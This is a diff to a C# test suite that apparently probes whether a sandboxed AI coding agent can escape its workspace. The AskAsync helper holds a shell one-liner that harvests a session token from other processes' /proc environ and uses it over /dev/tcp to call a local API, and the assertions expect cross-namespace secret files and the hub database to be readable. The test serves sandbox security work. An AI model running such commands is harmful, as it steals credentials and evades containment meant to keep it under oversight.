@@ -45,7 +45,7 @@ public sealed class CodexEscapeTests
         Assert.Equal(_attempts.Length, codex.Count<ControlChat.Core.Sessions.AgentEvent.ApprovalRequested>());
         // All of that is there to be read by whoever is not in the namespace.
         Assert.Equal(secret, File.ReadAllText($"{spaces}/other/file"));
-        Assert.Contains("create table workspace_members", System.Text.Encoding.Latin1.GetString(File.ReadAllBytes($"{data}/hub.db")), StringComparison.Ordinal);
+        Assert.Contains("create table workspace_members", string.Concat(Directory.EnumerateFiles(data, "hub.db*").Select(f => System.Text.Encoding.Latin1.GetString(ReadShared(f)))), StringComparison.Ordinal);
     }
 
     // The relay lets it ask the model, and the handle opens nothing else.
@@ -62,5 +62,14 @@ public sealed class CodexEscapeTests
         async Task<string> AskAsync(string method, string path) => (await codex.EscapeAsync(
             $"for p in /proc/[0-9]*; do K=$(cat $p/environ 2>/dev/null | tr '\\0' '\\n' | sed -n 's/^CONTROLCHAT_SESSION=//p'); [ -n \"$K\" ] && break; done; exec 3<>/dev/tcp/127.0.0.1/{port}; "
             + $"printf '{method} {path} HTTP/1.1\\r\\nHost: 127.0.0.1:{port}\\r\\nAuthorization: Bearer %s\\r\\nContent-Type: application/json\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{{}}' \"$K\" >&3; read -r _ S _ <&3; echo $S")).Split('\n')[0];
+    }
+
+    // The hub has it open for writing.
+    private static byte[] ReadShared(string path)
+    {
+        using var file = new FileStream(path, FileMode.Open, FileAccess.Read, FileShare.ReadWrite);
+        var bytes = new byte[file.Length];
+        file.ReadExactly(bytes);
+        return bytes;
     }
 }
